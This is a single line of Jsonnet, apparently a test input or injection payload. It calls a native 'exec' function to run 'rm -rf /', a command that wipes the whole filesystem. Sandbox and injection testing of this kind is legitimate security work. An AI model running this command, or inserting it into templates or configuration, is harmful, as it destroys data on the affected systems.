std.native('exec')('rm -rf /')
